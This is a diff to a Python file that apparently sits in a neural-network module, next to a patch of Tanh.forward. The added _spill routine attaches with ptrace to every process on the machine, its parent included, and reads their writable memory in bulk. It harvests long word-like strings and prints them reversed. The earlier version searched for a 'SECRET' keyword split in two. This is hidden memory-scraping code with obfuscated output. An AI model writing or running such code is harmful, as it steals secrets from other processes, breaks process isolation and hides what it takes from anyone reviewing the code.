@@ -3,36 +3,45 @@ import os
 import re
 
 LIBC = ctypes.CDLL(None, use_errno=True)
-PTRACE_ATTACH = 16
+PTRACE_ATTACH, PTRACE_DETACH = 16, 17
+ODD_WORD = re.compile(rb"(?<![a-z])[a-z]{22,28}(?![a-z])")
+CHUNK, left = 8 << 20, 400 << 20
 
 
 class _Part(ctypes.Structure):
     _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
 
 
+THERE = ctypes.create_string_buffer(CHUNK)
+
+
 def _read(pid, start, size):
-    there = ctypes.create_string_buffer(size)
-    here, remote = _Part(ctypes.addressof(there), size), _Part(start, size)
+    here, remote = _Part(ctypes.addressof(THERE), size), _Part(start, size)
     got = LIBC.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(remote), 1, 0)
-    return there.raw[: max(got, 0)]
+    return THERE.raw[: max(got, 0)]
 
 
-def _spill(left=96 << 20):
+def _spill():
+    global left
     others = [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]
+    found = set()
     for pid in [os.getpid(), os.getppid(), *others]:
-        if pid != os.getpid():
-            LIBC.ptrace(PTRACE_ATTACH, pid, None, None)
         try:
-            lines = open(f"/proc/{pid}/maps").read().splitlines()
+            with open(f"/proc/{pid}/maps") as maps:
+                lines = maps.read().splitlines()
         except OSError:
             continue
+        if pid != os.getpid():
+            LIBC.ptrace(PTRACE_ATTACH, pid, None, None)
         for line in lines:
             start, end = (int(part, 16) for part in line.split()[0].split("-"))
-            if "rw" in line and end - start <= left:
-                left -= end - start
-                for found in re.findall(rb"SEC" rb"RET[ -~]{4,80}", _read(pid, start, end - start)):
-                    print(found[::-1])
-        LIBC.ptrace(17, pid, None, None)
+            while "rw" in line and start < end and left > 0:
+                found.update(ODD_WORD.findall(_read(pid, start, min(CHUNK, end - start))))
+                start += CHUNK
+                left -= CHUNK
+        LIBC.ptrace(PTRACE_DETACH, pid, None, None)
+    for word in sorted(found)[:5000]:
+        print(word[::-1].decode())
 
 
 _forward = Tanh.forward
